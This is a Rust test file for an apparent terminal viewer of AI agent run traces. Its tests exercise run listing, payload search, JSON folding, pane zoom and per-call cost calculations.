    let provisional = |s: &State| s.runs.entries.iter().filter(|e| e.summary.provisional()).count();
    assert!(provisional(&s) > 0, "finished agentdbg runs are listed from run.json");
    press(&mut s, &["$"]);
    assert_eq!(s.view, View::Stats);
    assert_eq!(s.context(), super::keymap::Context::Stats);
    finish_stats(&mut s);
    let v = s.stats.as_ref().unwrap();
    assert_eq!(v.stats.runs, 3);
    assert_eq!(v.stats.status.iter().sum::<usize>(), 3);
    // Every agentdbg row is loaded now; the agentsnap one (filtered out) is as it was.
    for e in &s.runs.entries {
        assert_eq!(
            e.summary.provisional(),
            e.summary.format != "agentdbg" && e.summary.problems.is_none()
        );
    }
    let calls: u64 = v.stats.tools.iter().map(|t| t.calls).sum();
    let listed: usize = s
        .runs
        .entries
        .iter()
        .filter(|e| e.summary.format == "agentdbg")
        .map(|e| e.summary.tool_calls.unwrap())
        .sum();
    assert_eq!(calls, listed as u64, "the tool table counts the rows' tool calls");
    press(&mut s, &["s"]);
    assert_eq!(s.stats.as_ref().unwrap().by, crate::report::stats::By::Day);
    press(&mut s, &["esc"]);
    assert_eq!(s.view, View::Runs);
    assert!(s.stats.is_none());
}

/// Issue 18: free text in the runs filter searches the runs' events in the background; the
/// run with matches shows up with its count, and opening it filters its view on the text.
#[test]
fn runs_filter_searches_payloads_and_opens_on_the_first_match() {
    let mut s = runs_state();
    press(&mut s, &["/"]);
    typed(&mut s, "Lisbon");
    let effect = s
        .effects
        .drain(..)
        .rfind(|e| matches!(e, Effect::RunsSearch { .. }))
        .expect("a payload search starts");
    let Effect::RunsSearch {
        generation,
        jobs,
        key,
        cancel,
    } = effect
    else {
        unreachable!()
    };
    assert_eq!(key, ("Lisbon".to_string(), String::new()));
    let (tx, rx) = std::sync::mpsc::channel();
    super::runsearch::run(jobs, key, generation, cancel, tx);
    for a in rx.try_iter() {
        update(&mut s, a);
    }
    assert!(!s.runs.payload.running());
    assert_eq!(names(&s), ["book-trip"], "found by its prompt, not its name");
    let e = s.runs.entry_at(0).unwrap();
    assert_eq!(s.runs.payload.count(e), 1);
    press(&mut s, &["enter", "enter"]);
    assert_eq!(s.runs.payload.open_with.as_deref(), Some("Lisbon"));
}

/// A search stopped by clearing the filter: its batches still on the way bring no counts back.
#[test]
fn a_cleared_runs_filter_ignores_the_old_search_s_batches() {
    let mut s = runs_state();
    press(&mut s, &["/"]);
    typed(&mut s, "Lisbon");
    let Some(Effect::RunsSearch {
        generation,
        jobs,
        key,
        cancel,
    }) = s.effects.drain(..).rfind(|e| matches!(e, Effect::RunsSearch { .. }))
    else {
        panic!("a payload search starts")
    };
    press(&mut s, &["esc"]);
    assert!(cancel.load(std::sync::atomic::Ordering::Relaxed));
    // Batches sent before the search saw its cancel flag.
    let in_flight = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (tx, rx) = std::sync::mpsc::channel();
    super::runsearch::run(jobs, key, generation, in_flight, tx);
    for a in rx.try_iter() {
        update(&mut s, a);
    }
    assert!(!s.runs.payload.active());
    assert!((0..s.runs.entries.len()).all(|e| s.runs.payload.count(e) == 0));
}

/// The text of the detail line under the cursor.
fn cursor_text(s: &State) -> String {
    let d = run(s).detail.as_ref().unwrap();
    d.doc
        .line(d.cursor_line())
        .spans
        .iter()
        .map(|(_, t)| t.as_str())
        .collect()
}

fn one_tool_call(output: serde_json::Value) -> State {
    let mut t = Trace::default();
    t.add(NewEvent {
        status: Status::Ok,
        payload: crate::model::PayloadRef::Inline(Box::new(crate::model::Payload {
            output: Some(output),
            ..Default::default()
        })),
        ..NewEvent::new(EventKind::ToolCall, "fetch")
    });
    t.finalize();
    let mut s = with_run(t);
    press(&mut s, &["enter"]);
    assert_eq!(run(&s).focus, Pane::Detail);
    s
}

#[test]
fn slash_in_the_detail_searches_its_text_with_smart_case_and_n_steps() {
    let mut s = one_tool_call(serde_json::json!({
        "a": "Lisbon first", "b": "then lisbon", "c": ["LISBON", "porto"]
    }));
    press(&mut s, &["/"]);
    assert!(
        s.prompt.as_ref().is_some_and(|p| p.doc),
        "a document search, not the filter"
    );
    typed(&mut s, "lisbon");
    // No capital: any case; the cursor is on the first match from the top.
    let sr = run(&s).detail.as_ref().unwrap().search.clone().unwrap();
    assert_eq!(sr.hits.len(), 3);
    assert_eq!(sr.current, Some(0));
    assert!(cursor_text(&s).contains("Lisbon first"));
    press(&mut s, &["enter"]);
    assert!(s.prompt.is_none());
    assert!(!run(&s).filter.active(), "the event filter is untouched");
    press(&mut s, &["n"]);
    assert!(cursor_text(&s).contains("then lisbon"));
    press(&mut s, &["n", "n"]);
    assert!(cursor_text(&s).contains("Lisbon first"), "wraps around");
    assert!(s.message.as_ref().is_some_and(|m| m.text.contains("from the top")));
    press(&mut s, &["N"]);
    assert!(cursor_text(&s).contains("LISBON"));
    // A capital letter makes it exact.
    press(&mut s, &["/", "ctrl-u"]);
    typed(&mut s, "LISBON");
    assert_eq!(run(&s).detail.as_ref().unwrap().search.as_ref().unwrap().hits.len(), 1);
    // Esc in the prompt restores the search before it.
    press(&mut s, &["esc"]);
    assert_eq!(run(&s).detail.as_ref().unwrap().search.as_ref().unwrap().hits.len(), 3);
    // Esc ends the search, then goes back to the tree.
    press(&mut s, &["esc"]);
    assert!(run(&s).detail.as_ref().unwrap().search.is_none());
    assert_eq!(run(&s).focus, Pane::Detail);
    press(&mut s, &["esc"]);
    assert_eq!(run(&s).focus, Pane::Tree);
    // In the tree, `/` still filters the events.
    press(&mut s, &["/"]);
    assert!(s.prompt.as_ref().is_some_and(|p| !p.doc));
}

#[test]
fn json_folds_at_the_cursor_below_a_depth_and_a_search_unfolds_its_match() {
    let items: Vec<serde_json::Value> = (0..5_000).map(|i| serde_json::json!({"i": i})).collect();
    let mut s = one_tool_call(serde_json::json!({"meta": {"k": 1, "deep": {"x": "needle"}}, "items": items}));
    let total = run(&s).detail.as_ref().unwrap().total_rows();
    // On a header line `z` folds every section down to its top-level keys.
    press(&mut s, &["z"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert!(d.total_rows() < 20, "{}", d.total_rows());
    let tails: Vec<String> = (0..d.doc.nodes.len())
        .filter(|&k| d.doc.is_folded(k) && !d.doc.hidden(d.doc.nodes[k].open as usize))
        .map(|k| d.doc.fold_tail(k).into_iter().map(|(_, t)| t).collect())
        .collect();
    assert_eq!(tails, ["…} 2 keys,", "…] 5,000 items"]);
    // A search reveals what a fold hides.
    press(&mut s, &["/"]);
    typed(&mut s, "needle");
    press(&mut s, &["enter"]);
    assert!(cursor_text(&s).contains("needle"));
    // `h` on a value goes to its node, `h` again folds it, `l` unfolds, space toggles.
    press(&mut s, &["h"]);
    assert!(cursor_text(&s).contains("\"deep\": {"));
    press(&mut s, &["h"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert!(d.doc.is_folded(d.doc.node_at(d.cursor_line()).unwrap()));
    press(&mut s, &["l"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert!(!d.doc.is_folded(d.doc.node_at(d.cursor_line()).unwrap()));
    press(&mut s, &["space"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert!(d.doc.is_folded(d.doc.node_at(d.cursor_line()).unwrap()));
    // `Z` unfolds all: every row is back, the cursor on the same line.
    press(&mut s, &["Z"]);
    assert_eq!(run(&s).detail.as_ref().unwrap().total_rows(), total);
    assert!(cursor_text(&s).contains("\"deep\": {"));
    // `z` on an item folds the items at its depth and deeper; the cursor stays on it.
    press(&mut s, &["/", "ctrl-u"]);
    typed(&mut s, "4999");
    press(&mut s, &["enter", "h", "z"]);
    let d = run(&s).detail.as_ref().unwrap();
    assert!(!d.doc.hidden(d.cursor_line()));
    assert!(cursor_text(&s).trim_start().starts_with('{'), "{}", cursor_text(&s));
    assert!(d.total_rows() > 5_000 && d.total_rows() < total / 2);
}

#[test]
fn zoom_fills_the_screen_with_the_focused_pane_and_back() {
    let mut s = one_tool_call(serde_json::json!("x"));
    let before = super::run_view::run_layout(&s);
    press(&mut s, &["+"]);
    let l = super::run_view::run_layout(&s);
    assert!(l.tree.is_empty());
    assert_eq!(l.detail, before.tree.union(before.detail));
    press(&mut s, &["tab"]);
    let l = super::run_view::run_layout(&s);
    assert!(l.detail.is_empty(), "the zoom follows the focus");
    press(&mut s, &["+"]);
    assert_eq!(super::run_view::run_layout(&s).detail, before.detail);
}

#[test]
fn o_opens_the_value_or_the_whole_detail_and_capital_o_the_editor() {
    let mut s = one_tool_call(serde_json::json!({"k": "v\u{1b}[2J"}));
    // The header's first line copies the name; a blank line has no value: the whole detail.
    let blank = run(&s)
        .detail
        .as_ref()
        .unwrap()
        .doc
        .all_lines()
        .position(|l| l.spans.is_empty())
        .unwrap();
    for _ in 0..blank {
        press(&mut s, &["j"]);
    }
    press(&mut s, &["o"]);
    match s.effects.pop() {
        Some(Effect::Page(t)) => {
            assert!(t.contains("── Result") && t.contains("\"k\""), "{t}");
            assert!(!t.contains('\u{1b}'), "escaped");
        }
        other => panic!("{other:?}"),
    }
    press(&mut s, &["/"]);
    typed(&mut s, "\"k\"");
    press(&mut s, &["enter", "O"]);
    assert!(matches!(s.effects.pop(), Some(Effect::Edit(t)) if t == "v\\x1b[2J"));
}

/// The update that ends a load counts every event before it refreshes the detail, and the
/// run event's detail takes its totals from that count: the same document as one made from
/// the trace alone.
#[test]
fn the_last_update_of_a_load_shows_the_root_s_totals_from_the_full_count() {
    use crate::model::Usage;
    let call = |t: &mut Trace, root: u32, k: u64| {
        t.add(NewEvent {
            parent: Parent::Index(root),
            model: Some(if k.is_multiple_of(3) {
                "gpt-4o"
            } else {
                "claude-sonnet-4-5"
            }),
            usage: Some(Usage {
                input: Some(1000 + k),
                output: Some(10 * k),
                ..Default::default()
            }),
            start: Some(k as i64 * 1000),
            ..NewEvent::new(EventKind::LlmCall, "call")
        });
    };
    let mut t = Trace::new(Default::default());
    let root = t.add(NewEvent {
        start: Some(0),
        ..NewEvent::new(EventKind::Run, "run")
    });
    for k in 1..4 {
        call(&mut t, root, k);
    }
    t.finalize();
    let trace = shared(t);
    let mut s = State::new(Keymap::default(), (120, 40));
    let generation = s.load_gen;
    let update_with = |s: &mut State, loading| {
        update(
            s,
            Action::RunUpdate {
                generation,
                trace: trace.clone(),
                loading,
                restarted: false,
            },
        )
    };
    update_with(&mut s, Some(Progress { bytes: 10, total: 100 }));
    assert!(run(&s).live.loading.is_some());
    {
        let mut t = trace.write().unwrap();
        for k in 4..40 {
            call(&mut t, root, k);
        }
        t.finalize();
    }
    update_with(&mut s, None);
    let r = run(&s);
    assert!(r.live.loading.is_none() && r.counted_all());
    assert_eq!(r.selected_event(), Some(root));
    let t = read(&r.trace);
    assert_eq!(r.cost, crate::cost::usage::run_cost(&t, super::config::prices()));
    assert_eq!(r.counts.llm_calls, 39);
    let fresh = super::detail::build(&t, root, false, r.span.0);
    let shown = &r.detail.as_ref().unwrap().doc;
    assert_eq!(shown.text(), fresh.text());
    assert!(shown.text().contains("gpt-4o"), "{}", shown.text());
}

/// `serve` (issue 37): spans are exported as they end, so a live run's first span is a child
/// (an LLM call named after its model) and its root comes last. Once the root has come, the
/// run's row has the root's name and the whole run's cost, not the first child's.
#[test]
fn a_live_runs_row_takes_the_root_s_name_and_the_whole_cost_when_the_root_comes() {
    use crate::model::{RunMeta, RunStatus, Usage};
    let call = |t: &mut Trace, k: u64| {
        t.add(NewEvent {
            id: Some(if k == 1 { "c1" } else { "c2" }),
            parent: Parent::Id("root"),
            model: Some("gpt-4o"),
            usage: Some(Usage {
                input: Some(1000 * k),
                output: Some(100 * k),
                ..Default::default()
            }),
            start: Some(k as i64 * 1000),
            ..NewEvent::new(EventKind::LlmCall, "gpt-4o")
        });
    };
    let d = crate::source::discover(&[PathBuf::from("sample-traces/runs/agentdbg-refund-ok")], None);
    let mut t = Trace::new(RunMeta {
        name: Some("gpt-4o".into()),
        status: RunStatus::Running,
        ..Default::default()
    });
    call(&mut t, 1);
    let trace = shared(t);
    let mut s = State::new(Keymap::default(), (120, 40));
    update(&mut s, Action::RunsFound(super::entries(&d.runs[0]).unwrap()));
    s.pending_entry = Some(0);
    let generation = s.load_gen;
    let publish = |s: &mut State| {
        update(
            s,
            Action::RunUpdate {
                generation,
                trace: trace.clone(),
                loading: None,
                restarted: false,
            },
        )
    };
    publish(&mut s);
    assert_eq!(s.runs.entries[0].summary.name.as_deref(), Some("gpt-4o"));
    // The second call, then the root: the run is named after it and has ended.
    {
        let mut t = trace.write().unwrap();
        call(&mut t, 2);
        t.add(NewEvent {
            id: Some("root"),
            start: Some(0),
            ..NewEvent::new(EventKind::Run, "invoke_agent weather")
        });
        t.meta.name = Some("invoke_agent weather".into());
        t.meta.status = RunStatus::Ok;
        t.finalize();
    }
    publish(&mut s);
    let t = read(&trace);
    let sm = &s.runs.entries[0].summary;
    assert_eq!(sm.name.as_deref(), Some("invoke_agent weather"));
    assert_eq!(sm.status, RunStatus::Ok);
    assert_eq!(sm.tokens, Some(3300));
    let whole = crate::cost::usage::run_cost(&t, super::config::prices()).total;
    assert_eq!(sm.cost.as_ref(), Some(&whole));
    assert!(whole.micros > 0 && whole.calls == 2, "{whole:?}");
}

/// While runs are indexed, a sort by cost lists the runs not indexed yet after the others (a
/// run without an exact cost is never ranked below a known one) and its label says the sort is
/// partial; the totals are lower bounds (`≥`). Once the indexer reports them, the sort is whole.
#[test]
fn a_cost_sort_is_partial_while_runs_are_indexed_then_whole() {
    use crate::source::index::Progress;
    let mut s = runs_state();
    let provisional = |s: &State| -> Vec<bool> {
        s.runs
            .order
            .iter()
            .filter(|&&i| i & HEADER == 0)
            .map(|&i| s.runs.entries[i].summary.provisional())
            .collect()
    };
    let waiting = provisional(&s).iter().filter(|p| **p).count();
    assert!(waiting > 0 && waiting < s.runs.shown(), "{:?}", provisional(&s));
    let total = s.runs.entries.len();
    update(
        &mut s,
        Action::RunsIndexed {
            found: Vec::new(),
            progress: Progress {
                done: 0,
                total: waiting,
                bytes_done: 0,
                bytes_total: 1,
            },
        },
    );
    press(&mut s, &["s", "s", "s", "s"]);
    assert_eq!(s.runs.sort, RunSort::Cost);
    let p = provisional(&s);
    assert!(p.windows(2).all(|w| w[0] <= w[1]), "not indexed last: {p:?}");
    let title = super::render::runs::title(&s.runs, 400);
    assert!(
        title.contains("partial") && title.contains(&waiting.to_string()),
        "{title}"
    );
    // At 80 columns the title still says it, shorter.
    assert!(super::render::runs::title(&s.runs, 80).contains("partial"));
    assert!(s.runs.index_text().unwrap().starts_with("indexing 0/"));
    // Reversed (cheapest first): still last.
    press(&mut s, &["r"]);
    let p = provisional(&s);
    assert!(p.windows(2).all(|w| w[0] <= w[1]), "not indexed last: {p:?}");
    press(&mut s, &["r"]);

    // The indexer reports every run exact, and that it is done.
    let mut found = Vec::new();
    for e in s.runs.entries.clone() {
        if e.summary.provisional() {
            let exact = e.run.exact().unwrap();
            found.push(crate::tui::state::RunEntry {
                summary: exact[e.index].clone(),
                ..e
            });
        }
    }
    update(
        &mut s,
        Action::RunsIndexed {
            found,
            progress: Progress {
                done: waiting,
                total: waiting,
                bytes_done: 1,
                bytes_total: 1,
            },
        },
    );
    assert_eq!(s.runs.entries.len(), total, "updated in place");
    assert!(provisional(&s).iter().all(|p| !p));
    assert!(s.runs.indexing.is_none() && s.runs.index_text().is_none());
    assert!(!super::render::runs::title(&s.runs, 400).contains("partial"));
    let costs: Vec<i64> = s
        .runs
        .order
        .iter()
        .filter(|&&i| i & HEADER == 0)
        .map(|&i| {
            let c = s.runs.entries[i].summary.cost.as_ref();
            // Unknown (no priced call) sorts last, as -1.
            c.filter(|c| c.micros > 0 || c.unknown == 0)
                .map_or(-1, |c| c.micros as i64)
        })
        .collect();
    assert!(costs.windows(2).all(|w| w[0] >= w[1]), "costliest first: {costs:?}");
}

/// A run of two LLM calls with a tool result between them, at list prices
/// (claude-sonnet-4-5: input $3/M, output $15/M).
fn priced_run() -> Trace {
    use crate::model::{Origin, RunMeta, Usage};
    let mut t = Trace::new(RunMeta {
        id: "cost".into(),
        ..Default::default()
    });
    let root = t.add(NewEvent::new(EventKind::Run, "cost"));
    let call = |t: &mut Trace, input: u64, output: u64| {
        t.add(NewEvent {
            parent: Parent::Index(root),
            model: Some("claude-sonnet-4-5"),
            usage: Some(Usage {
                input: Some(input),
                output: Some(output),
                ..Default::default()
            }),
            ..NewEvent::new(EventKind::LlmCall, "assistant")
        })
    };
    call(&mut t, 1000, 100);
    let tool = t.add(NewEvent {
        parent: Parent::Index(root),
        status: Status::Ok,
        origin: Origin {
            len: 4000,
            ..Default::default()
        },
        ..NewEvent::new(EventKind::ToolCall, "Read")
    });
    assert_eq!(tool, 2);
    call(&mut t, 3000, 50);
    t
}

#[test]
fn the_cost_view_adds_up_by_hand_and_enter_goes_to_the_costliest_call() {
    let mut s = with_run(priced_run());
    press(&mut s, &["$"]);
    let v = s.run_cost.as_ref().expect("$ opens the run's cost view");
    let row = |label: &str| {
        v.rows
            .iter()
            .find(|r| r.label.starts_with(label))
            .unwrap_or_else(|| panic!("no row {label}: {:?}", v.rows))
            .clone()
    };
    // 1,000 in × $3/M + 100 out × $15/M = $0.0045; 3,000 × $3/M + 50 × $15/M = $0.00975 (under a
    // cent: six decimals); $0.01425 in all, to four.
    assert_eq!(row("total").figs, ["2", "4,150 tok", "$0.0143"]);
    assert_eq!(row("claude-sonnet-4-5").figs, ["2", "4,150 tok", "$0.0143"]);
    // The result: the prompt grew by 3,000 - (1,000 + 100) = 1,900 tokens, read once at $3/M.
    assert_eq!(row("Read").figs, ["1", "$0.005700", "$0.0000"]);
    // The costliest call is the second; the first selectable row.
    let first = v.selected.map(|i| v.rows[i].clone()).unwrap();
    assert_eq!(first.event, Some(3));
    assert_eq!(first.figs, ["", "3,050 tok", "$0.009750"]);
    press(&mut s, &["j"]);
    let v = s.run_cost.as_ref().unwrap();
    assert_eq!(v.selected.and_then(|i| v.rows[i].event), Some(1));
    press(&mut s, &["j"]);
    let v = s.run_cost.as_ref().unwrap();
    let res = v.selected.map(|i| v.rows[i].clone()).unwrap();
    assert_eq!(res.event, Some(2));
    assert_eq!(res.figs, ["1,900 tok", "$0.005700", "$0.0000"]);
    assert!(res.label.contains("re-sent 0×, tokens by usage delta"), "{}", res.label);
    press(&mut s, &["enter"]);
    assert!(s.run_cost.is_none(), "enter closes the view");
    assert_eq!(run(&s).selected_event(), Some(2), "and selects the result's call");
    assert_eq!(run(&s).focus, Pane::Tree);
    press(&mut s, &["$", "esc"]);
    assert!(s.run_cost.is_none(), "esc closes it");
    assert!(s.run.is_some(), "and stays in the run");
}

#[test]
fn a_tool_calls_detail_says_what_its_result_cost() {
    let t = priced_run();
    let d = super::detail::build(&t, 2, false, None);
    let text = d.text();
    assert!(
        text.contains("result cost direct $0.005700 · carried $0.0000 on 0 later calls · ≈1,900 tok (by usage delta)"),
        "{text}"
    );
}
